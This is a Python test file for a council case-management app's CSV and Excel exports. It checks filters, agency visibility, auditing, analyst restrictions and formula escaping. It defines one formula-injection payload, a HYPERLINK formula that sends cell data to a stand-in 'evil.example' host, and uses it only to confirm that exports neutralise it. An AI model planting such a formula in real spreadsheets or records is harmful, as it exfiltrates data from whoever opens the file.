"""The case list exports as CSV and Excel (issue 12, item 5): with its filters applied, only the
cases the user may see (read through csphub.access, audited as listed by id), no free text for
a role that may not read it, and every cell through the safe spreadsheet writer."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from csphub.audit.models import AuditEntry
from csphub.casework import services
from csphub.casework.exports import FACT_COLUMNS, FREE_TEXT_COLUMNS

from .factories import create_agency, create_case, create_user

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def world() -> dict[str, Any]:
    council = create_agency("Council ASB Team")
    officer = create_user("officer", council, "jo.officer")
    analyst = create_user("analyst", council, "ana.analyst")
    castle = services.location_for(officer, address="1 Castle Street", postcode="CT1 2AB")
    castle.ward_name = "Westgate"
    castle.save()
    noise = create_case(officer, summary=EVIL, location=castle, opened_on=date(2026, 3, 1))
    dogs = create_case(officer, case_type="Dog fouling", summary="Dogs off the lead", opened_on=date(2026, 5, 1))
    police = create_agency("Police", "police")
    hidden = create_case(create_user("officer", police), summary="Restricted police case", location=castle)
    return {"officer": officer, "analyst": analyst, "noise": noise, "dogs": dogs, "hidden": hidden}


def _csv(client: Client, query: str) -> list[dict[str, str]]:
    got = client.get(f"/cases/?{query}")
    assert got.status_code == 200 and got["Content-Type"] == "text/csv; charset=utf-8", got.content[:300]
    assert got["Content-Disposition"] == 'attachment; filename="cases.csv"'
    return list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))


def test_the_export_applies_the_filters_and_leaves_out_another_agencys_case(client: Client, world):
    client.force_login(world["officer"])
    everything = _csv(client, "format=csv")
    assert sorted(r["Reference"] for r in everything) == sorted([world["noise"].reference, world["dogs"].reference])
    assert world["hidden"].reference not in str(everything) and "Restricted police case" not in str(everything)
    westgate = _csv(client, "ward=Westgate&format=csv")
    assert [r["Reference"] for r in westgate] == [world["noise"].reference]
    assert westgate[0]["Ward"] == "Westgate" and westgate[0]["Address"] == "1 Castle Street"
    assert westgate[0]["Opened"] == "2026-03-01" and westgate[0]["Type of case"] == "Noise nuisance"
    dogs = _csv(client, f"case_type={world['dogs'].case_type_id}&format=csv")
    assert [r["Reference"] for r in dogs] == [world["dogs"].reference]


def test_a_formula_like_value_is_escaped_in_csv_and_excel(client: Client, world, tmp_path):
    client.force_login(world["officer"])
    row = _csv(client, "ward=Westgate&format=csv")[0]
    assert row["Summary"] == "'" + EVIL
    got = client.get("/cases/?ward=Westgate&format=xlsx")
    assert got["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    path = tmp_path / "cases.xlsx"
    path.write_bytes(got.content)
    sheet = load_workbook(path)["Cases"]
    assert [c.value for c in sheet[2]] == FACT_COLUMNS + FREE_TEXT_COLUMNS
    summary = sheet.cell(row=3, column=len(FACT_COLUMNS) + 1)
    assert summary.value == "'" + EVIL and summary.data_type == "s"
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_the_export_is_audited_naming_the_ids_exported(client: Client, world):
    client.force_login(world["officer"])
    _csv(client, "ward=Westgate&format=csv")
    listed = AuditEntry.objects.get(user=world["officer"], action=AuditEntry.Action.LISTED,
                                    purpose="case list export (csv)")
    assert listed.object_type == "case" and listed.object_ids == [str(world["noise"].pk)]
    exported = AuditEntry.objects.get(user=world["officer"], action=AuditEntry.Action.EXPORTED, object_type="case")
    assert exported.object_ids == [str(world["noise"].pk)] and exported.summary == "1 cases"
    assert EVIL not in str(listed.__dict__) + str(exported.__dict__)  # ids and purpose, never the words


def test_an_analyst_gets_the_facts_without_summaries_or_addresses(client: Client, world):
    client.force_login(world["analyst"])
    got = client.get("/cases/?format=csv")
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert rows[0] == FACT_COLUMNS
    text = got.content.decode("utf-8-sig")
    assert "HYPERLINK" not in text and "Dogs off the lead" not in text and "Castle Street" not in text
    assert sorted(r[0] for r in rows[1:]) == sorted([world["noise"].reference, world["dogs"].reference])


def test_a_wrong_filter_shows_the_page_and_an_unknown_format_is_not_found(client: Client, world):
    client.force_login(world["officer"])
    wrong = client.get("/cases/?opened_from-day=40&opened_from-month=1&opened_from-year=2026&format=csv")
    assert wrong["Content-Type"].startswith("text/html") and "<title>Error: Cases" in wrong.content.decode()
    assert client.get("/cases/?format=pdf").status_code == 404
    page = client.get("/cases/?ward=Westgate").content.decode()
    assert 'href="?ward=Westgate&amp;format=csv"' in page and 'href="?ward=Westgate&amp;format=xlsx"' in page
